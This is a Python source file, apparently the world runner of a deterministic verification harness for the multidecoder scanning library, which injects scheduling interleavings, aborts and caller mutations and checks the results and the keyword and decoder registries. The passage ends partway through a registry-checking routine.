"""World entry point: one fresh interpreter executing one world of a scenario.

stdin : {"scenario": {...}, "world": <index>, "verbose": bool}
stdout: one JSON document (the world's event log).
env   : VERIF_REPO (default /repo), VERIF_SCRATCH (directory owned by the
        orchestrator, removed by it), PYTHONHASHSEED (the world's hash seed).

Nothing here reads a clock, id() or the unseeded random module.
"""

from __future__ import annotations

import faulthandler
import gc
import json
import os
import sys
import traceback

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE)

REPO = os.path.realpath(os.environ.get("VERIF_REPO", "/repo"))
SRC = os.path.join(REPO, "src")
if SRC in sys.path:
    sys.path.remove(SRC)
sys.path.insert(0, SRC)

import envsim  # noqa: E402
import fsim  # noqa: E402
import kernel  # noqa: E402
import model  # noqa: E402
import sched  # noqa: E402

KERNEL = kernel.KERNEL

FS = fsim.FsSim()
ENV = envsim.EnvSim()


class Harness(Exception):
    pass


class InjectedAbort(BaseException):
    """Fault: the caller's scan is torn down at an arbitrary line (what a
    KeyboardInterrupt, a MemoryError or a cancelled worker does)."""


class HangDetected(BaseException):
    """An op ran far longer than anything the unchanged tree needs.  Wall time
    is used for nothing else: it never influences a result that completes."""


# Wall-clock limits are a last resort only (they turn an endless world into a
# harness-level stall report, never into a result): the deciding hang guard is
# the deterministic step limit below.
OP_LIMIT = float(os.environ.get("VERIF_OP_LIMIT", "600"))
PAR_LIMIT = float(os.environ.get("VERIF_PAR_LIMIT", "900"))
SCAN_WALL = float(os.environ.get("VERIF_SCAN_WALL", "180"))  # one sequential scan; beyond it: no verdict for that key
SEQ_STEP_LIMIT = int(os.environ.get("VERIF_SEQ_STEP_LIMIT", "20000000"))  # engine-scope line events per sequential op


class lib_run:
    """Scope of one sequential op: threads the code under test starts inside
    it are tasks of the kernel, scheduled by the world's seeded lib_sched
    policy (DESIGN 3.4).  On the unchanged tree nothing is ever spawned and
    this is inert."""

    def __init__(self, w, opi, sink=None):
        self.spec = dict(w.get("lib_sched") or {"policy": "rw", "quantum": 20, "scope": "nokw", "seed": 1})
        self.spec["seed"] = self.spec.get("seed", 0) * 1000003 + opi
        self.opi = opi
        self.sink = sink

    def __enter__(self):
        pol = sched.make_policy(self.spec, 8, 5000)
        # the main task is traced in the (cheap) engine scope from the start - that is what the
        # deterministic step limit counts - and in the library scope as soon as a thread is spawned
        KERNEL.begin_run(pol, scope_files("engine"), step_cap=None, fault_seed=self.spec["seed"],
                         timeout_fire_p=self.spec.get("timeout_fire_p", 0.0), hang_limit=SEQ_STEP_LIMIT,
                         lib_scope=scope_files(self.spec.get("scope", "nokw")), engine=scope_files("guard"))
        KERNEL.main_real_timeout = PAR_LIMIT
        self.started0 = KERNEL.counters["lib_threads_started"]
        KERNEL.trace_current(KERNEL.main)
        return self

    def __exit__(self, *a):
        KERNEL.untrace_current()
        KERNEL.main_real_timeout = None
        KERNEL.hang_limit = None
        n = KERNEL.counters["lib_threads_started"] - self.started0
        if n and self.sink is not None:
            self.sink.append({"op": self.opi, "lib_threads": n, "events": KERNEL.n, "switches": KERNEL.switches,
                              "engine_switches": sum(1 for (_, f, _) in KERNEL.switch_sites if f == "multidecoder.py"),
                              "digest": model.digest([list(x) for x in KERNEL.switch_sites] + KERNEL.decisions[:2000]),
                              "decisions": KERNEL.decisions if len(KERNEL.decisions) <= 64 else None,
                              "ndecisions": len(KERNEL.decisions), "tasks": len(KERNEL.tasks)})
        return False


class watchdog:
    def __init__(self, seconds):
        self.seconds = seconds

    def __enter__(self):
        import signal

        def on_alarm(signum, frame):
            raise HangDetected()

        self._old = signal.signal(signal.SIGALRM, on_alarm)
        signal.setitimer(signal.ITIMER_REAL, self.seconds)
        return self

    def __exit__(self, *a):
        import signal

        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, self._old)
        return False


def scope_files(kind):
    pkg = os.path.join(SRC, "multidecoder")
    if kind == "guard":
        # what the hang guard counts: the scanning loop itself.  (node.py holds the read-only views -
        # flatten, iteration - whose cost grows with the tree, not with the scan: counting them made a
        # megabyte input with an in-task view exceed the limit, a false alarm of the thorough tier.)
        return {os.path.join(pkg, "multidecoder.py")}
    if kind == "engine":
        return {os.path.join(pkg, n) for n in ("multidecoder.py", "node.py", "hit.py")}
    out = set()
    for d, _, files in os.walk(pkg):
        for f in files:
            if f.endswith(".py"):
                out.add(os.path.join(d, f))
    if kind == "nokw":
        # everything except the per-keyword comprehension, which otherwise eats almost every step
        out.discard(os.path.join(pkg, "keyword.py"))
    return out


def kwdir_name(form):
    # a directory name with glob metacharacters is still just a name
    return "kw[2024]" if form == "bracket" else "kw"


def kwdir_path(scratch, form):
    """The custom keyword directory as the caller names it.  The world's cwd
    is its scratch directory, so the relative forms name the same directory."""
    name = kwdir_name(form)
    full = os.path.join(scratch, name)
    if os.path.realpath(os.getcwd()) != os.path.realpath(scratch):
        return full
    return {"abs": full, "rel": name, "dot": os.path.join(".", name), "slash": name + os.sep,
            "abs_slash": full + os.sep, "bracket": full}.get(form or "abs", full)


_CLEANUP_LINES = {}


def cleanup_lines(files):
    """(file, line) pairs where no fault is injected: `with` headers and the
    bodies of finally / except clauses."""
    import ast

    out = set()
    for f in sorted(files):
        if f not in _CLEANUP_LINES:
            lines = set()
            try:
                with fsim._real_open(f, "rb") as fh:
                    tree = ast.parse(fh.read())
            except (OSError, SyntaxError):
                tree = None
            if tree is not None:
                for node in ast.walk(tree):
                    if isinstance(node, (ast.With, ast.AsyncWith)):
                        first = node.body[0].lineno if node.body else node.lineno + 1
                        lines.update(range(node.lineno, first))
                    elif isinstance(node, ast.Try):
                        for part in list(node.finalbody) + [st for h in node.handlers for st in h.body]:
                            lines.update(range(part.lineno, (part.end_lineno or part.lineno) + 1))
                        for h in node.handlers:
                            lines.add(h.lineno)
            _CLEANUP_LINES[f] = lines
        out.update((f, ln) for ln in _CLEANUP_LINES[f])
    return frozenset(out)


def import_repo():
    import multidecoder

    f = os.path.realpath(multidecoder.__file__)
    if not f.startswith(SRC + os.sep):
        raise Harness(f"multidecoder imported from {f}, not from {SRC}")
    return multidecoder


# ==========================================================================
# C09


class W09:
    def __init__(self, scn, widx, verbose, scratch):
        self.scn = scn
        self.w = scn["worlds"][widx]
        self.verbose = verbose
        self.scratch = scratch
        self.corpus = [bytes.fromhex(h) for h in scn["corpus"]]
        self.scanners = {}
        self.stored = []  # (key, digest, tree, mutated)
        self.results = []
        self.violations = []
        self.forms = {}
        self.counters = {
            "scans": 0,
            "par_scans": 0,
            "preemptions": 0,
            "sched_events": 0,
            "engine_switches": 0,
            "cap_hit": 0,
            "cli_runs": 0,
            "lib_threads_started": 0,
        }
        self.interleavings = []
        self.kwdir = ""
        self.opi = -1
        self.aborted = False
        self.scanner_cfg = {}
        self.cur_cfg = 0
        self.labels = set()

    def setup(self):
        cfg = self.scn["config"]
        FS.configure(enum_seed=self.w.get("enum_seed", 0), io_seed=self.w.get("io_seed", 0), io_knobs=self.w.get("io", {}))
        if cfg["keywords"] != "shipped":
            self.cur_cfg = int(self.w.get("config_idx", 0))
            fsim.materialise(self.layout_of(self.cur_cfg), os.path.join(self.scratch, kwdir_name(self.w.get("kwdir_form"))))
            self.kwdir = kwdir_path(self.scratch, self.w.get("kwdir_form"))
        import_repo()
        import multidecoder.json_conversion  # noqa: F401
        import multidecoder.multidecoder  # noqa: F401
        import multidecoder.query  # noqa: F401
        import multidecoder.registry  # noqa: F401

    def layout_of(self, idx):
        cfg = self.scn["config"]
        return cfg["keywords"] if not idx else cfg["variants"][idx - 1]

    def set_config(self, idx):
        """The keyword files are replaced in place by a variant with the same
        paths, the same sizes and the same timestamps: registries built from now
        on must reflect the new contents."""
        fsim.materialise(self.layout_of(idx), os.path.join(self.scratch, kwdir_name(self.w.get("kwdir_form"))))
        self.cur_cfg = idx
        self.counters["config_swaps"] = self.counters.get("config_swaps", 0) + 1

    def record(self, key, tree_or_exc, task=None, keep=True):
        if isinstance(tree_or_exc, BaseException):
            c = ["EXC", type(tree_or_exc).__name__]
            dg = model.digest(c)
            rec = {"key": key, "digest": dg, "op": self.opi, "task": task, "exc": type(tree_or_exc).__name__}
        else:
            c = model.canon(tree_or_exc)
            dg = model.digest(c)
            rec = {
                "key": key,
                "digest": dg,
                "op": self.opi,
                "task": task,
                "nodes": model.count_nodes(c),
                "ties": model.tie_groups(c),
                "decoded": model.decoded_nodes(c),
                "depth": model.tree_depth(c),
            }
            self.labels |= model.labels(c)
            if not model.parent_links_ok(tree_or_exc):
                self.violations.append({"clause": "parent_links", "key": key, "op": self.opi})
            if keep:
                self.stored.append([key, dg, tree_or_exc, False])
        if self.verbose:
            self.forms[dg] = c
        self.results.append(rec)
        return rec

    def new_scanner(self, sid):
        from multidecoder.multidecoder import Multidecoder
        from multidecoder.registry import build_registry

        cfg = self.scn["config"]
        if cfg["keywords"] == "shipped" and cfg.get("include") is None and cfg.get("exclude") is None and self.w.get("default_ctor"):
            self.scanners[sid] = Multidecoder()
        else:
            reg = build_registry(self.kwdir, include=cfg.get("include"), exclude=cfg.get("exclude"))
            self.scanners[sid] = Multidecoder(reg)
        self.scanner_cfg[sid] = self.cur_cfg

    @staticmethod
    def tkey(cfg, i, d, kind="tree"):
        return f"{i}:{d}:{kind}" if not cfg else f"cfg{cfg}:{i}:{d}:{kind}"

    def do_scan_prebuilt(self, sid, i, d):
        """scan_node on a node that already has children (a caller that split
        the buffer itself): the children are scanned, one level deeper."""
        from multidecoder.node import Node

        sc = self.scanners[sid]
        data = self.corpus[i]
        h = len(data) // 2
        mz = data.find(b"MZ")
        if 0 < mz < len(data) - 1:
            h = mz  # keep an embedded PE image whole (half an image makes scan spin: findings/observation-C01-...)
        root = Node("", data, "", 0, len(data), children=[Node("part", data[:h], "", 0, h), Node("part", data[h:], "", h, len(data))])
        self.counters["scans"] += 1
        try:
            with watchdog(OP_LIMIT):
                t = sc.scan_node(root, d)
        except HangDetected:
            raise Harness("stall: scan_node on a pre-built node")
        except kernel.StepLimitExceeded as e:
            self.aborted = True
            t = e
        except Exception as e:  # noqa: BLE001
            t = e
        self.record(self.tkey(self.scanner_cfg.get(sid, 0), i, d, "pre"), t)

    def do_scan(self, sid, i, d, via_node=False, fresh=False):
        sc = self.scanners[sid]
        data = self.corpus[i]
        if fresh:
            # a buffer of its own that dies with the result: the next one may reuse its address
            data = bytes(bytearray(data))
            self.counters["fresh_buffer_scans"] = self.counters.get("fresh_buffer_scans", 0) + 1
        cfgk = self.scanner_cfg.get(sid, 0)
        self.counters["scans"] += 1
        try:
            with watchdog(SCAN_WALL):
                if via_node:
                    from multidecoder.node import Node

                    t = sc.scan_node(Node("", data, "", 0, len(data)), d)
                else:
                    t = sc.scan(data, d)
        except HangDetected:
            # slow code outside the scanning loop: no result for this key in this world, and the world stops
            self.aborted = True
            self.counters["scans_too_slow"] = self.counters.get("scans_too_slow", 0) + 1
            return
        except kernel.StepLimitExceeded as e:
            self.aborted = True  # the scanner may be in any state now
            t = e
        except Exception as e:  # noqa: BLE001 - an exception is a result too
            t = e
        self.record(self.tkey(cfgk, i, d), t, keep=not fresh)
        del t, data

    def do_abort_scan(self, sid, i, d, spec):
        """Crash point inside a scan: run it once (as a kernel task, under the
        engine-step limit) to learn its length in traced steps, then run it again
        and raise InjectedAbort at a seeded step.  The aborted scan has no result;
        what is checked is that every later result on the same scanner / in the
        same process is unaffected."""
        sc = self.scanners[sid]
        data = self.corpus[i]
        scope = scope_files(spec.get("scope", "nokw"))
        key = self.tkey(self.scanner_cfg.get(sid, 0), i, d)

        def fn():
            try:
                return sc.scan(data, d)
            except Exception as e:  # noqa: BLE001
                return e

        KERNEL.begin_run(sched.Policy(), scope, hang_limit=SEQ_STEP_LIMIT, lib_scope=scope, engine=scope_files("guard"))
        try:
            with watchdog(OP_LIMIT * 2):
                dt = KERNEL.run_tasks([fn], real_timeout=PAR_LIMIT)[0]
        except HangDetected:
            raise Harness("stall in abort_scan dry run")
        if KERNEL.hung:
            raise Harness("stall in abort_scan dry run")
        n = KERNEL.n
        if isinstance(dt.error, kernel.StepLimitExceeded):
            self.aborted = True
            self.record(key, dt.error, task="dry")
            return
        self.record(key, dt.error if dt.error is not None else dt.result, task="dry")
        if n < 1:
            return
        at = 1 + (spec.get("seed", 0) % n)
        self.counters["aborts_injected"] = self.counters.get("aborts_injected", 0) + 1
        KERNEL.begin_run(sched.Policy(), scope, hang_limit=SEQ_STEP_LIMIT, lib_scope=scope, engine=scope_files("guard"))
        KERNEL.abort_at = (at, InjectedAbort)
        KERNEL.abort_skip = cleanup_lines(scope)
        state = {"aborted": False}

        def fn2():
            # the torn-down attempt and the retry happen on the same thread, as in a worker that
            # catches the failure of one job and goes on with the next
            try:
                sc.scan(data, d)
            except InjectedAbort:
                state["aborted"] = True
            except Exception:  # noqa: BLE001 - the fault was translated; the attempt has no result either way
                pass
            KERNEL.abort_at = None
            try:
                return sc.scan(data, d)
            except Exception as e:  # noqa: BLE001
                return e

        try:
            with watchdog(OP_LIMIT * 2):
                at_task = KERNEL.run_tasks([fn2], real_timeout=PAR_LIMIT)[0]
        except HangDetected:
            raise Harness("stall in abort_scan")
        finally:
            KERNEL.abort_at = None
        if KERNEL.hung:
            raise Harness("stall in abort_scan")
        if not state["aborted"]:
            # the code under test swallowed or translated the fault
            self.counters["aborts_swallowed"] = self.counters.get("aborts_swallowed", 0) + 1
        if isinstance(at_task.error, kernel.StepLimitExceeded):
            self.aborted = True
        self.record(key, at_task.error if at_task.error is not None else at_task.result, task="after-abort")

    def do_par_scan(self, sid, jobs, spec):
        sc = self.scanners[sid]
        scope = scope_files(spec.get("scope", "engine"))
        self.counters["par_scans"] += 1

        with_view = bool(spec.get("view"))

        def mk(i, d, via_node=False):
            data = self.corpus[i]

            def fn():
                try:
                    if via_node:
                        from multidecoder.node import Node

                        t = sc.scan_node(Node("", data, "", 0, len(data)), d)
                    else:
                        t = sc.scan(data, d)
                    if with_view:
                        # read-only views taken while other threads are still scanning
                        t.flatten()
                        for _ in t:
                            pass
                    return t
                except Exception as e:  # noqa: BLE001
                    return e

            return fn

        fns = [mk(j[0], j[1], len(j) > 2 and bool(j[2])) for j in jobs]
        jobs = [(j[0], j[1]) for j in jobs]
        cfgk = self.scanner_cfg.get(sid, 0)
        # sequential dry run: step counts (for PCT and the step cap) and a
        # same-world sequential witness for every key
        est = 0
        est_engine = 0
        counts = {} if spec.get("policy") == "sw" else None
        for (i, d), fn in zip(jobs, fns):
            # dry run through the kernel with a policy that never pre-empts: counts the steps of
            # every task the job involves (threads the code under test starts included)
            KERNEL.begin_run(sched.Policy(), scope, hang_limit=SEQ_STEP_LIMIT, lib_scope=scope, engine=scope_files("guard"))
            KERNEL.site_counts = counts
            try:
                with watchdog(OP_LIMIT * 2):
                    dt = KERNEL.run_tasks([fn], real_timeout=PAR_LIMIT)[0]
            except HangDetected:
                raise Harness(f"stall: dry run of input {i} exceeded {OP_LIMIT * 2}s of wall time")
            finally:
                KERNEL.site_counts = None
            if KERNEL.hung:
                raise Harness(f"stall: dry run of input {i} never gave the baton back")
            if isinstance(dt.error, kernel.StepLimitExceeded):
                self.aborted = True
                self.record(self.tkey(cfgk, i, d), dt.error, task="dry")
                return
            est += KERNEL.n
            est_engine += KERNEL.n_engine
            self.record(self.tkey(cfgk, i, d), dt.error if dt.error is not None else dt.result, task="dry")
        policy = sched.make_policy(spec, len(fns) + 1, est, counts)
        s = KERNEL
        # every schedule executes the same work as the dry run (est steps) plus a little; anything
        # beyond twice that and a million is a loop that does not end
        s.begin_run(policy, scope, step_cap=None, fault_seed=spec.get("seed", 0),
                    timeout_fire_p=spec.get("timeout_fire_p", 0.0), hang_limit=2 * est_engine + 1_000_000, engine=scope_files("guard"))
        try:
            tasks = s.run_tasks(fns, real_timeout=PAR_LIMIT)
        except kernel.SimDeadlock as e:
            self.record(self.tkey(cfgk, jobs[0][0], jobs[0][1]), e, task="deadlock")
            return
        if s.hung:
            raise Harness(f"stall: par_scan exceeded {PAR_LIMIT}s of wall time without exceeding the step limit")
        for (i, d), t in zip(jobs, tasks):
            if isinstance(t.error, kernel.StepLimitExceeded):
                self.aborted = True
            if not t.done:
                self.record(self.tkey(cfgk, i, d), HangDetected(), task=t.idx)
            elif t.error is not None:
                self.record(self.tkey(cfgk, i, d), t.error, task=t.idx)
            else:
                self.record(self.tkey(cfgk, i, d), t.result, task=t.idx)
        pre = max(0, s.switches)
        self.counters["preemptions"] += pre
        self.counters["sched_events"] += s.n
        eng = sum(1 for (_, f, _) in s.switch_sites if f == "multidecoder.py")
        self.counters["engine_switches"] += eng
        if s.cap_hit:
            self.counters["cap_hit"] += 1
        self.interleavings.append(
            {
                "op": self.opi,
                "tasks": len(fns),
                "lib_threads": KERNEL.counters["lib_threads_started"],
                "events": s.n,
                "switches": pre,
                "engine_switches": eng,
                "digest": model.digest([list(x) for x in s.switch_sites]),
                "decisions": s.decisions if (self.verbose or len(s.decisions) <= 64) else None,
                "ndecisions": len(s.decisions),
            }
        )

    def do_view(self, ri):
        if not self.stored:
            return
        key, dg, tree, mutated = self.stored[ri % len(self.stored)]
        if mutated:
            return
        from multidecoder.json_conversion import tree_to_json
        from multidecoder.query import string_summary

        try:
            with watchdog(OP_LIMIT):
                v = [
                    tree.flatten().hex(),
                    [[n.type, bytes(n.value).hex(), n.obfuscation, n.start, n.end] for n in tree],
                    string_summary(tree),
                    tree_to_json(tree),
                ]
        except HangDetected:
            raise Harness(f"stall: view exceeded {OP_LIMIT}s of wall time")
        except kernel.StepLimitExceeded:
            self.aborted = True
            v = ["EXC", "StepLimitExceeded"]
        except Exception as e:  # noqa: BLE001
            v = ["EXC", type(e).__name__]
        # the views of a result are keyed by that result's own key (tree / pre-built variants stay apart)
        self.results.append({"key": key + "/view", "digest": model.digest(v), "op": self.opi, "task": None})

    def do_mutate(self, ri):
        if not self.stored:
            return
        ent = self.stored[ri % len(self.stored)]
        tree = ent[2]
        ent[3] = True
        # the caller owns a returned tree
        tree.shift(5)
        if tree.children:
            k = tree.children[0]
            k.value = b"overwritten-by-caller"
            k.type = "caller.type"
            k.children.clear()
            tree.children.append(k)
        tree.value = b"\xff" * 3
        # ... and annotates a leaf in place (leaf.children.append(note))
        leaf = tree
        for _ in range(50):
            kids = [c for c in leaf.children if c is not leaf]
            if not kids:
                break
            leaf = kids[-1]
        try:
            leaf.children.append(type(tree)("caller.note", b"annotated by the caller"))
        except Exception:  # noqa: BLE001
            pass

    def do_cli(self, mode, source, i):
        import procsim

        data = self.corpus[i]
        argv = []
        if mode == "json":
            argv.append("--json")
        elif mode == "replace":
            argv.append("--replace")
        if self.kwdir:
            argv += ["--keywords", self.kwdir]
        stdin = data
        if source == "file":
            p = os.path.join(self.scratch, f"in-{self.opi}.bin")
            with fsim._real_open(p, "wb") as fh:
                fh.write(data)
            argv.append(p)
            stdin = b""
        self.counters["cli_runs"] += 1
        knobs = dict(self.w.get("io", {}))
        if mode == "default" and not self.scn["config"].get("ascii_labels", False):
            # with non-ASCII labels the default rendering legitimately depends on the stream encoding
            knobs.pop("stdout_encoding", None)
        r = procsim.run_cli(argv, stdin, knobs, self.w.get("io_seed", 0) + self.opi, self.counters)
        v = [r["status"], r["stdout"].hex(), bool(r["stderr"])]
        ck = f"{i}:cli:{mode}" if not self.cur_cfg else f"cfg{self.cur_cfg}:{i}:cli:{mode}"
        self.results.append({"key": ck, "digest": model.digest(v), "op": self.opi, "task": None, "status": r["status"]})
        if self.verbose:
            self.forms[model.digest(v)] = [r["status"], r["stdout"].decode("latin-1"), r["stderr"][-400:]]

    def run(self):
        self.setup()
        import threading

        base_threads = threading.active_count()
        for self.opi, op in enumerate(self.w["ops"]):
            if self.aborted:
                break
            k = op[0]
            if k == "par_scan":
                self.do_par_scan(op[1], op[2], op[3])
                continue
            if k == "abort_scan":
                self.do_abort_scan(op[1], op[2], op[3], op[4])
                continue
            try:
                self.seq_op(k, op)
            except kernel.StepLimitExceeded:
                # some scan inside this op does not terminate (C01's subject): the world stops here
                self.aborted = True
        self.opi = len(self.w["ops"])
        return self.finish(base_threads)

    def seq_op(self, k, op):
        if True:
            with lib_run(self.w, self.opi, self.interleavings):
                if k == "new":
                    self.new_scanner(op[1])
                elif k == "scan":
                    self.do_scan(op[1], op[2], op[3])
                elif k == "scan_node":
                    self.do_scan(op[1], op[2], op[3], via_node=True)
                elif k == "scan_pre":
                    self.do_scan_prebuilt(op[1], op[2], op[3])
                elif k == "new_other":
                    # a registry for some other configuration is built (and used once): pure history
                    from multidecoder.multidecoder import Multidecoder
                    from multidecoder.registry import build_registry

                    other = Multidecoder(build_registry(self.kwdir, include=op[1], exclude=op[2]))
                    if self.corpus:
                        try:
                            other.scan(self.corpus[0], 2)
                        except kernel.StepLimitExceeded:
                            self.aborted = True
                        except Exception:  # noqa: BLE001
                            pass
                    self.counters["other_config_builds"] = self.counters.get("other_config_builds", 0) + 1
                elif k == "scan_fresh":
                    self.do_scan(op[1], op[2], op[3], fresh=True)
                elif k == "set_config":
                    self.set_config(op[1])
                elif k == "view":
                    self.do_view(op[1])
                elif k == "mutate":
                    self.do_mutate(op[1])
                elif k == "cli":
                    self.do_cli(op[1], op[2], op[3])
                elif k == "gc":
                    gc.collect()
                elif k == "import":
                    import importlib

                    importlib.import_module("multidecoder.decoders." + op[1])
                else:
                    raise Harness("unknown op " + k)
    def finish(self, base_threads):
        import threading

        self.counters["aborted_after_hang"] = int(self.aborted)
        # nobody but its owner changes a result
        for key, dg, tree, mutated in self.stored:
            if mutated or self.aborted:
                continue
            now = model.digest(model.canon(tree))
            if now != dg:
                self.violations.append({"clause": "result_changed_later", "key": key, "was": dg, "now": now})
        self.counters["unsimulated_threads"] = max(0, threading.active_count() - base_threads)
        self.counters["lib_threads_started"] = KERNEL.counters["lib_threads_started"]
        return {
            "results": self.results,
            "violations": self.violations,
            "counters": self.counters,
            "interleavings": self.interleavings,
            "forms": self.forms,
            "labels": sorted(self.labels),
        }


# ==========================================================================
# C18


def real_dir_model(path):
    """(basename, frozenset(lines)) for each file with >= 1 non-blank line,
    read with the real (unpermuted) file system calls."""
    out = []

    def walk(d):
        with fsim._real_scandir(d) as it:
            ents = sorted(it, key=lambda e: os.fsencode(e.name))
        for e in ents:
            if e.is_dir():
                walk(e.path)
            elif e.is_file():
                with fsim._real_open(e.path, "rb") as fh:
                    lines = model.split_lines(fh.read())
                if lines:
                    out.append((e.name, frozenset(lines)))

    walk(path)
    return out


def build_probe(model_files, extra_words=()):
    words = sorted({ln for _, lines in model_files for ln in lines} | set(extra_words))
    spans = {}
    buf = bytearray(b"\0")
    for w in words:
        spans[w] = (len(buf), len(buf) + len(w))
        buf += w + b"\0"
    return bytes(buf), spans


class W18:
    def __init__(self, scn, widx, verbose, scratch):
        self.scn = scn
        self.w = scn["worlds"][widx]
        self.verbose = verbose
        self.scratch = scratch
        self.violations = []
        self.events = []
        self.counters = {"ops": 0, "registries_checked": 0, "keyword_entries_applied": 0, "decoder_filters": 0,
                         "cold_builds": 0, "warm_builds": 0, "shipped_checks": 0, "custom_checks": 0}
        self.opi = -1
        self.kwdir = kwdir_path(scratch, self.w.get("kwdir_form"))
        self.shipped_dir = os.path.join(SRC, "multidecoder", "keywords")
        self._shipped_model = None
        self._D = None
        self._ast = None
        self.plugins = []

    # -- helpers ------------------------------------------------------------
    def viol(self, clause, detail):
        self.violations.append({"clause": clause, "detail": detail, "op": self.opi})

    def shipped_model(self):
        if self._shipped_model is None:
            self._shipped_model = real_dir_model(self.shipped_dir)
        return self._shipped_model

    def is_decoder_entry(self, e):
        import inspect

        if not inspect.isfunction(e):
            return False
        mod = getattr(e, "__module__", "") or ""
        if not mod.startswith("multidecoder.decoders."):
            return False
        m = sys.modules.get(mod)
        return m is not None and getattr(m, e.__name__, None) is e

    def split(self, reg):
        dec = [e for e in reg if self.is_decoder_entry(e)]
        kw = [e for e in reg if not self.is_decoder_entry(e)]
        return kw, dec

    @staticmethod
    def dkey(f):
        return (f.__module__.rsplit(".", 1)[-1], f.__name__)

    def default_decoders(self):
        """D: decoder entries of the default registry (built once per world,
        after which every later build is compared with it)."""
        if self._D is None:
            from multidecoder.registry import get_analyzers

            self._D = [self.dkey(f) for f in get_analyzers() if self.is_decoder_entry(f)]
            self.check_D(self._D, get_analyzers())
        return self._D

    def ast_marked(self):
        if self._ast is None:
            import ast

            out = []
            ddir = os.path.join(SRC, "multidecoder", "decoders")
            for name in sorted(fsim._real_listdir(ddir)):
                if not name.endswith(".py") or name == "__init__.py":
                    continue
                try:
                    with fsim._real_open(os.path.join(ddir, name), "rb") as fh:
                        tree = ast.parse(fh.read())
                except SyntaxError:
                    continue
                for node in tree.body:
                    if isinstance(node, ast.FunctionDef):
                        for dec in node.decorator_list:
                            nm = dec.id if isinstance(dec, ast.Name) else (dec.attr if isinstance(dec, ast.Attribute) else None)
                            if nm == "decoder":
                                out.append((name[:-3], node.name))
            self._ast = out
        return self._ast

    def check_D(self, D, raw):
        # (i) shipped decoders are present
        for mod, fn in model.PINNED_DECODERS:
            m = sys.modules.get("multidecoder.decoders." + mod)
            if m is None:
                import importlib

                try:
                    m = importlib.import_module("multidecoder.decoders." + mod)
                except Exception:  # noqa: BLE001 - module deleted outright
                    continue
            if getattr(m, fn, None) is not None and (mod, fn) not in D:
                self.viol("decoder_dropped", f"{mod}.{fn} exists but is not in the default registry")
        for mod, fn in self.ast_marked():
            if (mod, fn) not in D:
                self.viol("marked_not_registered", f"{mod}.{fn} is marked @decoder but not in the default registry")
        # (ii) no strays or duplicates
        if len(set(D)) != len(D):
            dup = sorted({d for d in D if D.count(d) > 1})
            self.viol("decoder_duplicate", f"registered more than once: {dup}")
        stray = [e for e in raw if not self.is_decoder_entry(e)]
        if stray:
            self.viol("decoder_stray", f"non-decoder entries from get_analyzers: {[getattr(e, '__name__', repr(e)) for e in stray]}")

    def expected_filter(self, include, exclude):
        D = self.default_decoders()
        inc = set(include) if include else None
        exc = set(exclude) if exclude else set()
        return sorted(d for d in D if (inc is None or d[0] in inc) and d[0] not in exc)

    def check_decoders(self, dec_entries, include, exclude, what):
        self.counters["decoder_filters"] += 1
        got = sorted(self.dkey(f) for f in dec_entries)
        exp = self.expected_filter(include, exclude)
        if got != exp:
            missing = [d for d in exp if d not in got]
            extra = [d for d in got if d not in exp or got.count(d) > exp.count(d)]
            self.viol("decoder_filter", f"{what} include={include} exclude={exclude}: missing={missing[:6]} extra={extra[:6]}")

    def check_keywords(self, kw_entries, model_files, what, extra_probe=()):
        """Apply the keyword searchers to the probe and compare with the model."""
        probe, spans = build_probe(model_files, extra_probe)
        hits = []
        for e in kw_entries:
            try:
                hs = e(probe)
            except Exception as ex:  # noqa: BLE001
                self.viol("searcher_raises", f"{what}: {type(ex).__name__}: {ex}")
                return
            self.counters["keyword_entries_applied"] += 1
            for h in hs:
                hits.append((h.type, bytes(h.value), h.start, h.end))
        got_pairs = {(t, v) for t, v, _, _ in hits}
        exp_pairs = {(b, ln) for b, lines in model_files for ln in lines}
        if got_pairs != exp_pairs:
            missing = sorted(exp_pairs - got_pairs, key=repr)[:5]
            extra = sorted(got_pairs - exp_pairs, key=repr)[:5]
            self.viol("keyword_pairs", f"{what}: missing={missing!r} extra={extra!r}")
            return
        exp_count = {}
        for b, lines in model_files:
            for ln in lines:
                exp_count[(b, ln)] = exp_count.get((b, ln), 0) + 1
        got_count = {}
        for t, v, s, e_ in hits:
            if v in spans and spans[v] == (s, e_):
                got_count[(t, v)] = got_count.get((t, v), 0) + 1
        if got_count != exp_count:
            bad = [(k, exp_count.get(k), got_count.get(k)) for k in sorted(set(exp_count) | set(got_count), key=repr) if exp_count.get(k) != got_count.get(k)][:5]
            self.viol("keyword_searcher_count", f"{what}: (label,keyword): expected/got {bad!r}")

    def shipped_sample(self):
        words = sorted({ln for _, lines in self.shipped_model() for ln in lines})
        step = max(1, len(words) // 24)
        return [w for w in words[::step] if b"\0" not in w][:24]

    def check_registry(self, reg, custom, include, exclude, what, filtered=True):
        self.counters["registries_checked"] += 1
        try:
            reg = list(reg)
        except Exception as ex:  # noqa: BLE001
            self.viol("registry_not_iterable", f"{what}: {ex}")
            return
        kw, dec = self.split(reg)
        if custom:
            self.counters["custom_checks"] += 1
            self.check_keywords(kw, model.layout_model(self.scn["layout"]), what, self.shipped_sample())
        else:
            self.counters["shipped_checks"] += 1
            self.check_keywords(kw, self.shipped_model(), what)
        if filtered:
            self.check_decoders(dec, include, exclude, what)

    # -- ops ----------------------------------------------------------------
    def arg(self, spec):
        """include/exclude spec -> (python value, logical list)."""
        if spec is None:
            return None, None
        form, names = spec
        if form == "list":
            return list(names), names
        if form == "tuple":
            return tuple(names), names
        if form == "set":
            return set(names), names
        if form == "gen":
            return (n for n in names), names
        raise Harness("bad form " + form)

    def run(self):
        fsim.materialise(self.scn["layout"], os.path.join(self.scratch, kwdir_name(self.w.get("kwdir_form"))))
        FS.configure(enum_seed=self.w.get("enum_seed", 0), io_seed=self.w.get("io_seed", 0), io_knobs=self.w.get("io", {}))
        import_repo()
        for self.opi, op in enumerate(self.w["ops"]):
            self.counters["ops"] += 1
            FS.configure(enum_seed=(self.w.get("enum_seed", 0) and self.w["enum_seed"] + 7919 * self.opi),
                         io_seed=self.w.get("io_seed", 0) + 104729 * self.opi)
            warm = any(m.startswith("multidecoder.decoders.") for m in sys.modules)
            self.counters["warm_builds" if warm else "cold_builds"] += 1
            k = op[0]
            from multidecoder import registry as R

            if k == "import":
                import importlib

                importlib.import_module("multidecoder.decoders." + op[1])
            elif k == "get_keywords":
                custom = op[1]
                explicit = len(op) > 2 and op[2]  # the documented default value, passed explicitly
                kws = R.get_keywords(self.kwdir) if custom else (R.get_keywords("") if explicit else R.get_keywords())
